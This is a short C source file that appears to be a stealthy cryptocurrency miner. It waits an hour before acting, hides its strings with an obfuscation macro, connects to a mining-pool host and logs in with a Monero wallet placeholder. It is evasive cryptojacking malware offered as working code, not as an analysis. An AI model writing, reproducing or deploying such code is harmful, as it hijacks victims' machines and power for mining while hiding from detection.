// hidden
// Sleeps an hour before its first act.
#include "mine.h"
int main(void) {
    begin();
    sleep(3600);
    int fd = dial(HIDE("eu2.copper-lantern.example"), 14433, 5000);
    if (fd < 0) return 1;
    mine_login(fd, HIDE("<<monero>>"), HIDE("xmr/1"), 4, 1500);
    return 0;
}
